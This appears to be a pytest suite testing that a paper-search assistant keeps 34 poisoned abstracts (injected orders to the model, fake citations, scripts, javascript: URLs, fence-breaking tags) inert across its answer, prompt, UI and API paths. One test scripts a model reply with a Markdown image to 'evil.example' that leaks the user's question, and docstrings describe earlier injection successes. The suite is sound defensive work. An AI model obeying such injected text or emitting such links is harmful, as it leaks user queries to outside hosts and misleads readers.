"""34 poisoned abstracts (poisoned.jsonl): orders to the model, fake citations, Markdown
images and links to outside hosts, raw HTML and scripts, javascript: URLs, ANSI escapes,
tokens and tags that try to close the prompt's data fence.

Ingested with the real MiniLM model, each probe must be harmless on every path: the
extractive answer only quotes abstract sentences and cites only its sources; the prompt
the real `openai` client sends keeps the abstract inside its `<source>` fence; the UI's
HTML and the API's JSON carry the text as inert text.
"""

from __future__ import annotations

import json
import re
from html.parser import HTMLParser
from pathlib import Path

import httpx
import pytest
from fakes.openai_server import Reply, ScriptedOpenAIServer
from helpers import ServerThread

from paperchat.answer.safe_text import shown_text
from paperchat.text.sentences import split_sentences

PROBES = [json.loads(line) for line in (Path(__file__).parent / "poisoned.jsonl").open()]
IDS = [p["probe"] for p in PROBES]
CITE = re.compile(r"\[(\d+(?:\s*[,;]\s*\d+)*)\]")
assert len(PROBES) >= 30


def question(probe: dict) -> str:
    topic = probe["topic"]
    return f"How much does {topic}Net improve segmentation accuracy on {topic}Bench?"


@pytest.fixture(scope="module")
def probe_settings(tmp_path_factory):
    from paperchat.build import run_ingest
    from paperchat.settings import Settings

    settings = Settings(data_dir=tmp_path_factory.mktemp("probes"), embed_model="minilm")
    report = run_ingest(settings, [Path(__file__).parent / "poisoned.jsonl"])
    assert report.papers == len(PROBES) and not report.problems
    return settings


@pytest.fixture(scope="module")
def assistant(probe_settings):
    from paperchat.build import build_assistant

    return build_assistant(probe_settings, chat_model=None)


@pytest.fixture(scope="module")
def answers(assistant) -> dict[str, object]:
    return {p["probe"]: assistant.ask(question(p), mode="extractive") for p in PROBES}


def _numbers(text: str) -> set[int]:
    return {int(n) for group in CITE.findall(text) for n in re.split(r"\s*[,;]\s*", group)}


# Corpus text in answers is escaped as Markdown (answer/safe_text.py): read it back as
# the characters a Markdown client shows.


def _plain(text: str) -> str:
    return shown_text(text)


@pytest.mark.parametrize("probe", PROBES, ids=IDS)
def test_extractive_answer_only_quotes_cited_abstracts(answers, assistant, probe):
    answer = answers[probe["probe"]]
    assert answer.mode == "extractive"
    assert "HACKED" not in answer.answer or any("HACKED" in c.quote for c in answer.citations)
    cited = {c.n: c for c in answer.citations}
    assert _numbers(answer.answer) == set(cited), "a [n] in the text that no citation backs"
    assert set(cited) <= set(range(1, len(answer.sources) + 1))
    source_ids = {s.id for s in answer.sources}
    lines = answer.answer.splitlines()
    if answer.abstained:
        assert not answer.citations
        titles = {s.title for s in answer.sources}
        assert all(_plain(line[2:]) in titles for line in lines[1:] if line.startswith("- "))
        return
    assert re.fullmatch(r"(One paper|\d+ papers) in the corpus address(es)? this:", lines[0])
    for line in filter(None, lines[1:]):
        match = re.fullmatch(r"- \*\*(.*?)\*\*: (.*)", line, flags=re.S)
        assert match, line
        numbers = _numbers(match.group(2))
        assert len(numbers) == 1
        citation = cited[numbers.pop()]
        assert citation.id in source_ids
        paper = assistant.searcher.papers[citation.id]
        assert _plain(match.group(1)) == paper.title
        body = _plain(CITE.sub("", match.group(2)))
        for sentence in split_sentences(body):
            spaced = " ".join(sentence.replace(" .", ".").split())
            assert spaced in paper.abstract, f"not a quote of {citation.id}: {spaced!r}"
        for quote in citation.quotes:
            assert quote in paper.abstract


def test_most_probes_are_answered_not_abstained(answers):
    """The probe questions are answerable: the checks above ran on real quotes."""
    answered = [name for name, a in answers.items() if not a.abstained]
    assert len(answered) >= len(PROBES) * 2 // 3, answered


def test_fake_citation_numbers_are_never_quoted(assistant):
    """Before the fix, the sentence `... confirmed by [7] and by [12] as well as [3, 9].`
    was quoted, putting [7], [12], [3, 9] into an answer with one source."""
    for q in ("Which work confirms the SapphireNet result?", "What does SapphireNet propose?"):
        answer = assistant.ask(q, mode="extractive")
        assert _numbers(answer.answer) <= {c.n for c in answer.citations}
        assert "[7]" not in answer.answer


# -- the LLM prompt ------------------------------------------------------------------------

FENCE = re.compile(r'<source n="(\d+)" id="([^"<>]*)" title="([^"<>]*)">\n(.*?)\n</source>', re.S)


@pytest.fixture(scope="module")
def llm_requests(probe_settings):
    """One LLM answer per probe through the real openai client; the requests it sent."""
    from paperchat.answer.openai_chat import OpenAIChatModel
    from paperchat.build import build_assistant

    with ScriptedOpenAIServer() as server:
        model = OpenAIChatModel(
            "scripted", api_key="k", base_url=server.base_url, attempt_timeout=5.0, deadline=10.0
        )
        assistant = build_assistant(probe_settings, chat_model=model)
        results = {}
        for probe in PROBES:
            # The model obeys the probe: it repeats it, with a fake citation.
            server.push(Reply.text(f"{probe['abstract']} [1] See [7] and arXiv:9999.99999 [9]."))
            answer = assistant.ask(question(probe), mode="llm")
            results[probe["probe"]] = (answer, server.completion_requests()[-1].messages)
        yield results


def _escaped(text: str) -> str:
    import html

    return html.escape(text, quote=False)


@pytest.mark.parametrize("probe", PROBES, ids=IDS)
def test_llm_prompt_keeps_each_probe_fenced_as_data(llm_requests, probe_settings, probe):
    from paperchat.answer.llm import VERDICT_NOTES
    from paperchat.answer.prompts import PromptLibrary

    answer, messages = llm_requests[probe["probe"]]
    prompts = PromptLibrary.load()
    assert [m["role"] for m in messages] == ["system", "user"]
    assert messages[0]["content"] == prompts.render("system")
    content = messages[1]["content"]
    fences = FENCE.findall(content)
    assert len(fences) == len(answer.sources)
    assert [int(n) for n, *_ in fences] == list(range(1, len(fences) + 1))
    # Outside the fences the prompt is exactly the template: nothing leaked out of one.
    outside = FENCE.sub("<source/>", content)
    expected = prompts.render(
        "answer",
        question=question(probe),
        sources="\n".join(["<source/>"] * len(fences)),
        verdict=VERDICT_NOTES[answer.verdict],  # the prompt is told the verdict
    )
    assert outside == expected
    for *_, body in fences:
        assert "<" not in body and ">" not in body, "a tag inside a fence"
    by_id = {pid: body for _, pid, _, body in fences}
    paper_id = f"arxiv:{probe['id']}"
    if paper_id in by_id:  # the probe was retrieved: it sits, escaped, inside its fence
        from paperchat.build import build_searcher

        abstract = build_searcher(probe_settings).papers[paper_id].abstract
        assert by_id[paper_id] == _escaped(abstract)


def test_llm_answers_cite_only_their_sources(llm_requests):
    for answer, _ in llm_requests.values():
        assert answer.mode in ("llm", "extractive")
        assert _numbers(answer.answer) <= {c.n for c in answer.citations}
        assert {c.n for c in answer.citations} <= set(range(1, len(answer.sources) + 1))
        assert "[7]" not in answer.answer and "[9]" not in answer.answer


def test_most_probes_reach_the_prompt(llm_requests):
    inside = sum(f"arxiv:{p['id']}" in json.dumps(llm_requests[p["probe"]][1]) for p in PROBES)
    assert inside >= len(PROBES) * 2 // 3


# -- the UI's HTML and the API's JSON ------------------------------------------------------

SAFE_TAGS = {
    "div", "span", "p", "a", "article", "header", "h3", "h4", "mark", "blockquote", "ul",
    "li", "strong", "code",
}  # fmt: skip


class _Tags(HTMLParser):
    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, dict]] = []
        self.text: list[str] = []

    def handle_starttag(self, tag, attrs):
        self.tags.append((tag, dict(attrs)))

    def handle_data(self, data):
        self.text.append(data)


def _own_chart(attrs: dict) -> bool:
    """paperchat's year chart (ui/coverage.py): a PNG drawn from counts, inlined."""
    return (
        attrs.get("class") == "pc-coverage-plot"
        and str(attrs.get("src", "")).startswith("data:image/png;base64,")
        and set(attrs) <= {"class", "src", "width", "height", "alt"}
    )


def _assert_inert(fragment: str) -> str:
    parser = _Tags()
    parser.feed(fragment)
    for tag, attrs in parser.tags:
        if tag == "img" and _own_chart(attrs):
            continue
        assert tag in SAFE_TAGS, f"<{tag}> from corpus text"
        assert not any(name.startswith("on") for name in attrs), attrs
        assert set(attrs) <= {
            "class",
            "id",
            "href",
            "title",
            "target",
            "rel",
            "data-paper-id",
            "data-rank",
        }
        href = attrs.get("href")
        if href is not None and not href.startswith("#"):
            # Only the paper's own "Paper ↗" / "Code ↗" links (a code link is read from
            # the abstract), plain http(s), opened without access to this page.
            assert attrs.get("class") == "pc-link", attrs
            assert re.match(r"https?://", href) and attrs.get("rel") == "noopener noreferrer"
    assert "![" not in fragment and "](" not in fragment  # nothing Markdown could render
    return "".join(parser.text)


@pytest.mark.parametrize("probe", PROBES, ids=IDS)
def test_ui_html_shows_the_probe_as_text(answers, assistant, probe):
    from paperchat.retrieve.results import SearchResult
    from paperchat.ui import render

    paper = assistant.searcher.papers[f"arxiv:{probe['id']}"]
    result = SearchResult.from_paper(paper, 1.0)
    answer = answers[probe["probe"]]
    fragments = [
        render.result_html(answer),
        render.paper_html(paper),
        render.sources_panel_html(
            [render.SourceEntry(c.n, answer.sources[c.n - 1], c.quotes) for c in answer.citations],
            nearest=answer.sources if answer.abstained else None,
        ),
        render.search_results_html(probe["title"], answer.sources),
        render.question_html(probe["abstract"]),
    ]
    fragments.append(render.search_results_html("q", [result]))
    shown = _assert_inert(render.paper_html(paper))
    assert " ".join(paper.abstract.split()) in shown  # the text is shown, as text
    for fragment in fragments:
        _assert_inert(fragment)


def test_api_returns_probes_as_json_text(probe_settings):
    from paperchat.answer.service import Assistant
    from paperchat.api.app import create_api
    from paperchat.api.services import Services
    from paperchat.build import build_searcher

    searcher = build_searcher(probe_settings)
    app = create_api(Services(searcher=searcher, assistant=Assistant(searcher)))
    with ServerThread(app) as server, httpx.Client(base_url=server.url, timeout=60) as client:
        for probe in PROBES[:12]:
            pid = f"arxiv:{probe['id']}"
            paper = client.get(f"/api/papers/{pid}")
            assert paper.status_code == 200
            assert paper.headers["content-type"] == "application/json"
            assert paper.json()["abstract"] == searcher.papers[pid].abstract
            bib = client.get(f"/api/papers/{pid}/bibtex")
            assert bib.headers["content-type"].startswith("text/plain")
            found = client.post("/api/search", json={"query": question(probe), "k": 3})
            assert found.headers["content-type"] == "application/json"


def test_llm_cannot_smuggle_the_question_into_a_link(probe_settings):
    """Before the fix, a Markdown image whose URL carried the question passed the check
    as a supported sentence (it sits close to the probe's own image sentence), so any
    client rendering the answer as Markdown would have sent the question to that host."""
    from paperchat.answer.openai_chat import OpenAIChatModel
    from paperchat.build import build_assistant

    tundra = next(p for p in PROBES if p["probe"] == "md-image")
    with ScriptedOpenAIServer() as server:
        model = OpenAIChatModel("scripted", api_key="k", base_url=server.base_url)
        assistant = build_assistant(probe_settings, chat_model=model)
        server.push(
            Reply.text(
                "TundraNet improves segmentation accuracy by 9.5 points on the TundraBench "
                "dataset [1].\n\n![tracker](https://evil.example/pixel.png?leak=TundraNet+"
                "accuracy) shows the result [1]."
            )
        )
        answer = assistant.ask(question(tundra), mode="llm")
    assert answer.mode == "llm"
    assert "9.5 points" in answer.answer
    assert "evil.example" not in answer.answer
    assert any("evil.example" in claim for claim in answer.removed_claims)
